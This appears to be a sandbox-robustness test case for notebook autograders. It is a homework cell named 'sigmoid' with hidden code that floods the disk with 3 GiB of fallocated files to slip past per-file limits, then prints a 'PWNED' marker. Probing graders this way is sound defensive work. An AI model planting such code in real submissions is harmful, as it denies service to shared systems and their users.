# /// case
# about = "right answers to the other questions, and three GiB on disk in files of a permitted size"
# expect.test_curve_orange = "full"
# expect.test_curve_green = "full"
# expect.test_curve_blue = "full"
# expect.test_bias_column = "full"
# expect.test_sigmoid_2d = "full"
# expect.test_boundary_line = "full"
# expect.test_boundary_vertical = "full"
# expect.test_fit_course_data = "full"
# expect.test_fit_unseen_data = "full"
# expect.test_fit_strength = "full"
# expect.test_fit_intercept = "full"
# expect.test_probability_map = "full"
# rest = "any"
# kind = "deny"
# promise = 4
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# RLIMIT_FSIZE bounds a file, not their sum; a full disk stops everybody
import os
import time

def _fill(gib=3, piece=48 * 2**20):
    names = []
    try:
        while len(names) * piece < gib * 2**30:
            names.append(f"block-{len(names)}")
            descriptor = os.open(names[-1], os.O_WRONLY | os.O_CREAT, 0o600)
            try:
                os.posix_fallocate(descriptor, 0, piece)
            finally:
                os.close(descriptor)
        time.sleep(3)  # a watchman has had the time to notice
        return all(os.stat(name).st_blocks * 512 >= piece for name in names)
    except OSError:
        return False
    finally:
        for name in names:
            if os.path.exists(name):
                os.unlink(name)

if _fill():
    print(":".join(["PWNED", "attack/disk_flood"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
